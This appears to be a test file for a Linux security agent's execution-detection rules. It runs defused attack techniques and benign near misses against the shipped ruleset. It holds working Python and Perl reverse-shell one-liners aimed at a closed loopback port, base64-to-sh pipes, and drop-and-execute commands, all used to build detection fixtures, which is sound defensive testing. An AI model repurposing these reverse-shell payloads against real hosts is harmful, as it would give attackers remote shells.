/**
 * Default ruleset, execution (config/rules.d/execution.toml) on real kernel events with the shipped config
 * and rules.d: a web server copy (bash installed as `nginx`/`apache2` in a temp dir) spawning recon, reverse
 * shell one-liners that connect to a closed loopback port (refused: no shell is ever handed out), a base64
 * payload piped into sh, a payload dropped in /tmp then run; and their benign near misses.
 * RG_RECORD_CONTENT_FIXTURES=1 re-records test/fixtures/content/execution/ from this run.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { skipUnlessRoot, type Rec } from './helpers/agent-process.js';
import { startShippedAgent } from './helpers/shipped-agent.js';
import { caseAlerts, caseRecords, caseRuleIds, recordFixture, runCase, type CaseRun } from './helpers/content-case.js';

const TACTIC = 'execution';
const PY = '/usr/bin/python3';
// the cheat-sheet one-liners, aimed at the discard port on loopback, where nothing listens
const PY_REVERSE = "import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ntry:\n  s.connect(('127.0.0.1',9))\nexcept OSError:\n  raise SystemExit(0)\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn('/bin/sh')";
const PERL_REVERSE = 'use Socket;$i="127.0.0.1";$p=9;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};';

test('execution rules alert on real techniques and not on their near misses', async (t) => {
  if (skipUnlessRoot(t)) return;
  const dir = mkdtempSync('/tmp/rg-content-b-exec-');
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  copyFileSync('/usr/bin/bash', join(dir, 'nginx'));
  copyFileSync('/usr/bin/bash', join(dir, 'apache2'));
  writeFileSync(join(dir, 't.c'), 'int main(void){return 0;}\n');
  const agent = await startShippedAgent();
  try {
    const plan: Array<[string, 'positive' | 'near-miss', string[]]> = [
      ['RG-EXEC-WEB-SERVER-SHELL', 'positive', [join(dir, 'nginx'), '-c', 'id > /dev/null; true']],
      ['RG-EXEC-WEB-SERVER-SHELL', 'near-miss', [join(dir, 'apache2'), '-c', '/bin/sh -c "exec /usr/bin/true /usr/bin/rotatelogs /var/log/apache2/access.log 86400"; true']],
      ['RG-EXEC-INTERPRETER-REVERSE-SHELL', 'positive', [PY, '-c', PY_REVERSE]],
      ['RG-EXEC-INTERPRETER-REVERSE-SHELL', 'near-miss', [PY, '-c', 'import socket; print(socket.gethostname())']],
      ['RG-EXEC-BASE64-PIPE-SHELL', 'positive', ['sh', '-c', 'echo dHJ1ZQo= | base64 -d | sh']],
      ['RG-EXEC-BASE64-PIPE-SHELL', 'near-miss', ['sh', '-c', 'echo dHJ1ZQo= | base64 -d > /dev/null']],
      ['RG-EXEC-PTY-UPGRADE', 'positive', [PY, '-c', "import pty; pty.spawn(['/bin/sh', '-c', 'true'])"]],
      ['RG-EXEC-PTY-UPGRADE', 'near-miss', [PY, '-c', "import pty; pty.spawn(['/usr/bin/true'])"]],
      ['RG-EXEC-DROP-EXECUTE', 'positive', ['sh', '-c', `cp /usr/bin/true ${dir}/dropped && chmod +x ${dir}/dropped && ${dir}/dropped`]],
      ['RG-EXEC-DROP-EXECUTE', 'near-miss', ['sh', '-c', `cd ${dir} && gcc -o built t.c && ./built`]],
      ['RG-EXEC-DROP-EXECUTE-SCRIPT', 'positive', ['sh', '-c', `printf '#!/bin/sh\\ntrue\\n' > ${dir}/x.sh && chmod +x ${dir}/x.sh && ${dir}/x.sh`]],
      // npm-like: a package bin script written under node_modules of a temp checkout, then run
      ['RG-EXEC-DROP-EXECUTE-SCRIPT', 'near-miss', ['sh', '-c', `mkdir -p ${dir}/node_modules/.bin && printf '#!/bin/sh\\ntrue\\n' > ${dir}/node_modules/.bin/tool && chmod +x ${dir}/node_modules/.bin/tool && ${dir}/node_modules/.bin/tool`]],
    ];
    const runs: Array<[string, 'positive' | 'near-miss', CaseRun]> = [];
    for (const [rule, kind, argv] of plan) runs.push([rule, kind, await runCase(`${rule} ${kind}`, argv)]);
    const extra: Array<[string, CaseRun]> = [
      ['RG-EXEC-INTERPRETER-REVERSE-SHELL', await runCase('perl one-liner', ['perl', '-e', PERL_REVERSE])],
      ['RG-EXEC-PTY-UPGRADE', await runCase('script -qc', ['script', '-qc', '/bin/sh -c true', '/dev/null'])],
      ['RG-EXEC-BASE64-PIPE-SHELL', await runCase('openssl base64', ['sh', '-c', 'echo dHJ1ZQo= | openssl base64 -d | sh'])],
      ['RG-EXEC-BASE64-PIPE-SHELL', await runCase('base64 substitution', ['bash', '-c', 'bash -c "$(echo dHJ1ZQo= | base64 --decode)"'])],
    ];
    const last = await runCase('sentinel', ['/usr/bin/true', 'rg-content-b-sentinel']);
    await agent.waitFor((r) => r.event_type === 'process_exit' && r.pid === last.pid, 'the sentinel exit');
    const records: Rec[] = agent.records();
    for (const [rule, kind, run] of runs) {
      const got = caseAlerts(records, run, rule);
      if (kind === 'positive') assert.ok(got.length >= 1, `${run.name}: expected ${rule}; alerts of the case: ${caseRuleIds(records, run).join(', ') || 'none'}; records:\n${caseRecords(records, run).filter((r) => r.event_type !== 'file_open').map((r) => JSON.stringify(r)).join('\n')}`);
      else assert.deepEqual(got, [], `${run.name}: ${rule} must not fire`);
      recordFixture(TACTIC, `${rule}.${kind}.ndjson`, records, [run]);
    }
    for (const [rule, run] of extra) {
      assert.ok(caseAlerts(records, run, rule).length >= 1, `${run.name}: expected ${rule}; got ${caseRuleIds(records, run).join(', ') || 'none'}`);
    }
    const web = caseAlerts(records, runs[0]![2], 'RG-EXEC-WEB-SERVER-SHELL')[0]!;
    assert.equal(web.exe_path, '/usr/bin/id');
    assert.equal(web.parent_exe_path, join(dir, 'nginx'));
  } finally {
    await agent.stop();
  }
});
